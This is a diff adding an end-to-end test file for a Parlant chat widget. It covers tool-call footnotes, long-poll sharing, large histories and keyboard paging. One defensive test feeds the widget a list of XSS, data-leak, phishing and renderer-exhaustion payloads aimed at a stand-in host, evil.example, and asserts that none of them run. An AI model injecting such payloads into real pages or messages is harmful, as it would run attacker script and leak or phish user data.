@@ -1,0 +1,125 @@
+/**
+ * Scenarios only the emulator can stage: tool calls (the offline fake NLP service never calls
+ * tools), histories seeded in bulk, and counting the server's in-flight long-polls.
+ */
+import type { Page } from 'playwright-core';
+import { expect, it } from 'vitest';
+import type { ParlantEmulator } from '../../src/testing';
+import type { Harness } from './harness';
+import { agentBubbles, log, say } from './harness';
+
+/**
+ * Registers the emulator-only scenarios; `h` is filled in for each test.
+ * @example describe('against the emulator', () => emulatorScenarios(h));
+ */
+export function emulatorScenarios(h: Harness): void {
+  const emu = (): ParlantEmulator => {
+    if (!h.backend.emulator) throw new Error('an emulator scenario ran against a real server');
+    return h.backend.emulator;
+  };
+  const inFlightPolls = () => emu().requests.filter((r) => r.method === 'GET' && r.path.endsWith('/events') && r.status === null).length;
+
+  it('shows tool footnotes of a turn with tool calls (not verified against the real server)', async () => {
+    const { page, problems } = await h.open({ csp: 'strict' });
+    await say(page, 'What is my balance?');
+    await agentBubbles(page).first().waitFor();
+    await page.getByText(/tools? used/).click();
+    await expect.poll(() => page.getByText('Arguments').isVisible()).toBe(true);
+    expect(problems).toEqual([]);
+  });
+
+  it('renders hostile agent messages inert: nothing runs, nothing is fetched from the attacker', async () => {
+    const session = emu().createSession();
+    const { page, problems } = await h.open({ session: session.id, csp: 'strict' });
+    const requests: string[] = [];
+    page.on('request', (r) => void requests.push(r.url()));
+    const hostile = [
+      '<script>window.__pwned = 1</script><img src="https://evil.example/x.png" onerror="window.__pwned = 2">',
+      '[click me](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
+      '![tracker](https://evil.example/leak?q=secret) <iframe src="https://evil.example"></iframe>',
+      '<svg onload="window.__pwned = 4"></svg> <style>body { display: none }</style>',
+      `${'> '.repeat(3000)}deep ${'['.repeat(5000)}`,
+      `${'- *nested* [link](https://evil.example/n)\n  '.repeat(2500)}`, // ~100 KB of nested Markdown
+      'spoofed \u202Egnp.exe [https://bank.example](https://evil.example/phish)',
+    ];
+    for (const text of hostile) emu().agentSay(session.id, text);
+    await expect.poll(() => agentBubbles(page).count()).toBe(hostile.length);
+    await page.getByRole('link', { name: 'https://bank.example' }).hover();
+    expect(await page.getByRole('link', { name: 'https://bank.example' }).getAttribute('title')).toBe('evil.example');
+    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
+    expect(await page.locator('.parlant-chatbox script, .parlant-chatbox iframe, .parlant-chatbox svg:not([aria-hidden]), .parlant-chatbox img').count()).toBe(0);
+    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
+    expect(problems).toEqual([]);
+  });
+
+  it('keeps one long-poll for six tabs on the same session, and hands over when the polling tab closes', async () => {
+    const session = emu().createSession();
+    const tabs: Page[] = [];
+    for (let i = 0; i < 6; i += 1) tabs.push((await h.open({ session: session.id })).page);
+    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
+    await say(tabs[5] as Page, 'from the sixth tab');
+    for (const tab of tabs) await agentBubbles(tab).first().waitFor();
+    expect(emu().events(session.id).filter((e) => e.source === 'customer')).toHaveLength(1);
+    await tabs[0]?.close();
+    await expect.poll(inFlightPolls, { timeout: 15_000 }).toBe(1);
+    emu().agentSay(session.id, 'still here after the handover');
+    for (const tab of tabs.slice(1)) await log(tab).getByText('still here after the handover').waitFor({ timeout: 15_000 });
+  });
+
+  it('keeps one long-poll for several widgets on one page showing the same session', async () => {
+    const session = emu().createSession();
+    const { page } = await h.open({ session: session.id, count: '3' });
+    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
+    emu().agentSay(session.id, 'seen by all three');
+    await expect.poll(() => page.getByRole('log', { name: 'Conversation' }).getByText('seen by all three').count()).toBe(3);
+  });
+
+  it('stays usable with a 10,000-event history and a 1 MB agent message', async () => {
+    const session = emu().createSession();
+    for (let i = 1; i <= 5000; i += 1) {
+      emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
+      emu().appendEvent(session.id, { kind: 'status', source: 'ai_agent', status: 'ready' });
+    }
+    const { page, problems } = await h.open({ session: session.id });
+    await log(page).getByText('history message 5000').waitFor({ timeout: 20_000 });
+    // Only a window of the history is in the DOM.
+    expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
+    emu().agentSay(session.id, `${'A very long answer. '.repeat(52_429)}THE END`);
+    await log(page).getByText(/THE END$/).waitFor({ timeout: 20_000 });
+    await say(page, 'still here');
+    await log(page).locator('li[data-role="customer"]').getByText('still here').waitFor();
+    expect(problems).toEqual([]);
+  });
+
+  it('pages through a 2,000-message history with the keyboard alone, never holding more than 200 rows', async () => {
+    const session = emu().createSession();
+    for (let i = 1; i <= 2000; i += 1) emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
+    const { page, problems } = await h.open({ session: session.id });
+    await page.getByText('history message 2000', { exact: true }).waitFor({ timeout: 20_000 });
+    const rows = () => log(page).locator('li.parlant-message .parlant-bubble').allTextContents();
+    const numbers = async () => (await rows()).map((text) => Number(/history message (\d+)/.exec(text)?.[1]));
+    // Tab from the composer backwards to the focusable list, as a keyboard user would.
+    await page.getByRole('textbox', { name: 'Message' }).focus();
+    const onList = () => page.evaluate(() => document.activeElement?.classList.contains('parlant-scroller') ?? false);
+    for (let i = 0; i < 5 && !(await onList()); i += 1) await page.keyboard.press('Shift+Tab');
+    expect(await onList()).toBe(true);
+    let most = 0;
+    const walk = async (key: string, reached: () => Promise<boolean>) => {
+      for (let i = 0; i < 60 && !(await reached()); i += 1) {
+        await page.keyboard.press(key);
+        await page.waitForTimeout(50);
+        const shown = await numbers();
+        most = Math.max(most, shown.length);
+        // Always one unbroken run of the conversation, in order: what a screen reader reads.
+        expect(shown).toEqual(shown.map((_, k) => (shown[0] as number) + k));
+      }
+    };
+    await walk('Home', async () => (await numbers())[0] === 1);
+    await expect.poll(() => page.getByText('history message 1', { exact: true }).isVisible()).toBe(true);
+    await walk('End', async () => (await numbers()).at(-1) === 2000 && (await page.getByRole('button', { name: /Latest messages/ }).count()) === 0);
+    await expect.poll(() => page.getByText('history message 2000', { exact: true }).isVisible()).toBe(true);
+    expect(most).toBeGreaterThan(100);
+    expect(most).toBeLessThanOrEqual(200);
+    expect(problems).toEqual([]);
+  }, 90_000);
+}
